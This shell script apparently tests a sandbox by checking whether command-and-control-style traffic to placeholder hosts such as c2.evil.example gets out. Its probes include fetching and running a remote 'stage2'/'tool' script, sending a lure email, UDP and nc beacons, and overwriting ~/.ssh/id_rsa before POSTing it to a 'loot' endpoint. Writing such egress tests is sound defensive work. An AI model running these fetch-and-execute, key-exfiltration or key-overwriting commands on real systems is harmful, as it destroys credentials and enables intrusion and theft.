#!/bin/sh
# What ordinary programs say to the Internet; each line of the output is one thing that worked.
say() { echo "NET $*"; }

say dig "$(dig +short +time=5 c2.evil.example | head -1)"
say curl "$(curl -s --max-time 60 http://c2.evil.example/stage2.sh)"
say curl-https "$(curl -s --max-time 60 -A beacon/1.0 -d id=secret-of-the-guest https://c2.evil.example/gate.php | head -1)"
say wget "$(wget -q -T 60 -O - http://c2.evil.example:8081/stage2.sh)"
say openssl "$(printf 'GET /stage2.sh HTTP/1.0\r\nHost: c2.evil.example\r\n\r\n' |
    timeout 60 openssl s_client -quiet -verify_return_error -connect c2.evil.example:8443 -servername c2.evil.example 2>/dev/null | tail -1)"
say nc "$(printf 'hello from nc' | timeout 60 nc -N 203.0.113.9 4444; echo $?)"
say ssh-banner "$(timeout 10 nc 10.77.0.20 22 </dev/null | cut -c1-11)"
say python "$(timeout 100 python3 - <<'PY'
import socket, smtplib, urllib.request
import requests
print(urllib.request.urlopen("https://c2.evil.example/stage2.sh", timeout=60).read().decode().strip())
print(requests.post("https://c2.evil.example/up", data=b"from requests", timeout=60).status_code)
mail = smtplib.SMTP("mail.evil.example", 25, timeout=60)
mail.sendmail("bot@evil.example", ["victim@example.org"], "Subject: invoice\r\n\r\nopen it\r\n")
mail.quit()
datagram = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
datagram.sendto(b"beacon", ("203.0.113.9", 9999))
try:
    socket.create_connection(("10.77.0.20", 81), timeout=20)
except ConnectionRefusedError:
    print("refused")
PY
)"
# What is fetched and run, and what is put together and sent.
curl -s --max-time 60 -o /tmp/tool http://c2.evil.example/tool.sh && chmod +x /tmp/tool && say tool "$(/tmp/tool)"
mkdir -p ~/.ssh && head -c 400 /dev/zero | tr '\0' k > ~/.ssh/id_rsa
curl -s --max-time 60 -o /dev/null --data-binary @$HOME/.ssh/id_rsa http://c2.evil.example/loot
say end
